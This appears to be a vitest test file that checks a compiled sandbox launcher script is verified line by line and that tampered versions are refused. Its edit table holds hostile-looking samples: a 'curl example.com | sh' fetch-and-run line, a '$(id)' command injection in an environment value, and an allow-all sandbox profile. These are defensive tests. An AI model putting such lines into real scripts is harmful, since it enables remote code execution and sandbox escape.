/** The launcher read back: what the compiler writes is read, and a script that differs in any line is refused. */
import { expect, test } from "vitest";
import { compile } from "../../src/compile/compile.ts";
import { LauncherError, liftLauncher, temporaryPath } from "../../src/lift/launcher.ts";
import { targets } from "../../src/targets/registry.ts";
import { acceptEverything, worldProject } from "../support/random-policies.ts";

const sb = targets.filter(({ name }) => name === "sb");

function launcherOf(text: string): string | undefined {
  const { artifacts } = compile(worldProject(text), sb);
  return artifacts.find(({ path }) => path === "s/sb/run.sh")?.content;
}

const policy = (body: string): string => `server s <\n  ${body}\n  ${acceptEverything};\n>\n`;
const full = launcherOf(
  policy(
    'read ./a; tmp 1MiB; env A, B="it\'s"; limits < files 64; time 90s >; run node ./program/index.js --port=80;',
  ),
);
const plain = launcherOf(policy("read ./a;"));

test("all that a launcher says is read", () => {
  const lifted = liftLauncher(full ?? "");
  expect(lifted.limits).toEqual({ files: 64, milliseconds: 90_000 });
  expect(lifted.command).toEqual(["/usr/bin/node", "/srv/world/program/index.js", "--port=80"]);
  expect(lifted.temporary).toBe(true);
  expect(lifted.parameters.get("TMP")).toBe(temporaryPath);
  expect([...lifted.parameters.values()]).toContain("/srv/world/a");
  expect(lifted.environment).toEqual(
    expect.arrayContaining([
      { name: "A", value: { kind: "passed" } },
      { name: "B", value: "it's" },
      { name: "TMPDIR", value: { kind: "temporary" } },
    ]),
  );
  expect(lifted.checked).toContain("/srv/world/a");
});

test("a launcher of a policy without a program takes one", () => {
  const lifted = liftLauncher(plain ?? "");
  expect(lifted).toMatchObject({ limits: {}, temporary: false, workingDirectory: "/" });
  expect(lifted.command).toBeUndefined();
});

const isCode = (line: string): boolean => line !== "" && !line.startsWith("#");

test("without any one of its lines, with two of them the other way round, it is refused", () => {
  // What a launcher may have or not have, and says so when it has it.
  const free = /^same |^ulimit -n /;
  for (const script of [full, plain]) {
    const lines = (script ?? "").split("\n");
    expect(lines.length).toBeGreaterThan(40);
    for (const [at, line] of lines.entries()) {
      if (!isCode(line) && at > 0) continue;
      const without = lines.filter((_, index) => index !== at).join("\n");
      if (free.test(line)) expect(liftLauncher(without)).not.toEqual(liftLauncher(script ?? ""));
      else expect(() => liftLauncher(without), line).toThrow(LauncherError);
      const next = lines.findIndex((text, index) => index > at && isCode(text));
      if (
        next === -1 ||
        lines[next] === line ||
        (line.startsWith("same ") && lines[next]?.startsWith("same "))
      )
        continue;
      const swapped = lines.with(at, lines[next] ?? "").with(next, line);
      expect(() => liftLauncher(swapped.join("\n")), line).toThrow(LauncherError);
    }
  }
});

test("what is put between, or changed, is refused with its line", () => {
  const edits: readonly (readonly [string | RegExp, string])[] = [
    ["set -eu", "set -u"],
    ["-ne 0", "-eq 0"],
    ["exit 126", "return 0"],
    ["env -i ", "env "],
    ["umask 077", "umask 000"],
    ["|| fail 'a limit could not be set'", "|| :"],
    ["0 | 1 | 2 |", "0 | 1 | 2 | 3 |"],
    ['/usr/bin/sandbox-exec -f "$here/profile.sb"', "/usr/bin/env"],
    ['-f "$here/profile.sb"', "-p '(version 1)(allow default)'"],
    [' -- "$@"', ' "$@"'],
    ["'B=it'\\''s'", "'B=it'\"$(id)\"'s'"],
    ["'B=it'\\''s'", '"B=$HOME"'],
    ['+"A=$A"', '+"A=$B"'],
    ["-D 'P0=", "-D 'P1="],
    [/^cd -- .*$/m, "$&\ncurl example.com | sh"],
    [/$(?![\s\S])/, "echo done\n"],
    ["#!/bin/sh", "#!/bin/bash"],
    ["mktemp -d /private/tmp/mcpc.XXXXXXXX", "mktemp -d /private/tmp/XX"],
    ["kill -KILL", "kill -0"],
    ["same '/srv/world/a'", "same '/srv/world/a' || :"],
  ];
  for (const [from, to] of edits) {
    const changed = (full ?? "").replace(from, to);
    expect(changed, String(from)).not.toBe(full);
    expect(() => liftLauncher(changed), String(from)).toThrow(LauncherError);
  }
  const added = (full ?? "").replace("umask 077", "umask 077\nunset PATH");
  expect(() => liftLauncher(added)).toThrow("`fail() {` is missing here");
});
